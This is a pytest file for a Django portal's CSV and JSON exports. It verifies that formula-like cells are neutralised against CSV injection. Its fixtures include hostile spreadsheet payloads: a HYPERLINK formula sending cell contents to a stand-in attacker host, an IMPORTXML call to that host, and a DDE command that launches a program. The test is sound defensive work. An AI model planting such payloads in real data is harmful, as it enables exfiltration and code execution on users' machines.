"""Every CSV the portal writes opens in a spreadsheet without evaluating what people typed
(OWASP CSV injection): a cell that would be a formula starts with an apostrophe; plain numbers
and phone numbers stay as they are; JSON stays exact."""

import csv
import io
import json

import pytest

from portal.spreadsheet import neutralise
from stats.figures import FIGURES

from .factories import (
    NeedFactory,
    OfferingFactory,
    OpportunityFactory,
    SocialEnterpriseFactory,
    municipality,
)

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("https://uzbrucejs.example/?d="&A1;"Atvērt pieteikumu")'
HOSTILE_DESCRIPTION = "+SUM(1;2)\nŠī rinda izskatās pēc formulas, bet ir apraksts."
HOSTILE_TITLE = "-2+3 Parku uzkopšana Gulbenē"
HOSTILE_NEED_TEXT = "@cmd|' /C calc'!A0 — teksts, ko amatpersona ielīmēja no e-pasta."
PHONE = "+371 26 123 456"
HOSTILE_OPPORTUNITY_TITLE = "+1 telpas bez maksas Gulbenē"


def evaluates(cell: str) -> bool:
    """Whether a spreadsheet would read the cell as a formula rather than text or a number."""
    return neutralise(cell) != cell


@pytest.fixture
def hostile_rows():
    gulbene = municipality("gulbenes-novads")
    enterprise = SocialEnterpriseFactory(
        name=HOSTILE_NAME,
        description=HOSTILE_DESCRIPTION,
        phone=PHONE,
        home_municipality=gulbene,
    )
    OfferingFactory(enterprise=enterprise, title="\t=1+1 Veļas mazgāšana")
    NeedFactory(municipality=gulbene, title=HOSTILE_TITLE, description=HOSTILE_NEED_TEXT)
    OpportunityFactory(
        municipality=gulbene,
        title_lv=HOSTILE_OPPORTUNITY_TITLE,
        description_lv=HOSTILE_NEED_TEXT,
        who_may_apply='=IMPORTXML("https://uzbrucejs.example";"//a")',
    )
    return enterprise


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def downloaded(response) -> str:
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


@pytest.mark.parametrize(
    "url",
    ["/open-data/enterprises.csv", "/open-data/needs.csv", "/open-data/opportunities.csv"],
)
def test_open_data_csv_has_no_cell_a_spreadsheet_would_evaluate(client, hostile_rows, url):
    every_cell = cells(downloaded(client.get(url)))
    assert not [cell for cell in every_cell if evaluates(cell)]
    # The hostile text is still there, as text, whole.
    text = "\n".join(every_cell)
    assert any(
        f"'{hostile}" in text
        for hostile in (HOSTILE_NAME, HOSTILE_TITLE, HOSTILE_OPPORTUNITY_TITLE)
    )
    if url.endswith("opportunities.csv"):
        assert f"'{HOSTILE_OPPORTUNITY_TITLE}" in every_cell
        assert f"'{HOSTILE_NEED_TEXT}" in every_cell
    elif url.endswith("enterprises.csv"):
        assert f"'{HOSTILE_NAME}" in every_cell
        assert f"'{HOSTILE_DESCRIPTION}" in every_cell
        assert PHONE in every_cell  # a phone number is a number, not a formula
    else:
        assert f"'{HOSTILE_TITLE}" in every_cell
        assert f"'{HOSTILE_NEED_TEXT}" in every_cell


@pytest.mark.parametrize("slug", sorted(FIGURES))
def test_statistics_csv_has_no_cell_a_spreadsheet_would_evaluate(client, hostile_rows, slug):
    every_cell = cells(downloaded(client.get(f"/lv/statistics/{slug}.csv")))
    assert every_cell
    assert not [cell for cell in every_cell if evaluates(cell)]


def test_json_keeps_what_people_typed_exactly(client, hostile_rows):
    response = client.get("/open-data/enterprises.json")
    records = json.loads(b"".join(response.streaming_content))["organizations"]
    assert HOSTILE_NAME in [record["name"] for record in records]
    response = client.get("/open-data/opportunities.json")
    records = json.loads(b"".join(response.streaming_content))["opportunities"]
    assert [record["title"] for record in records] == [HOSTILE_OPPORTUNITY_TITLE]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("-1200.50", "-1200.50"),
        ("+371 26 123 456", "+371 26 123 456"),
        ("Rīga = galvaspilsēta", "Rīga = galvaspilsēta"),
        (42, 42),
    ],
)
def test_the_rule_for_one_cell(cell, written):
    assert neutralise(cell) == written
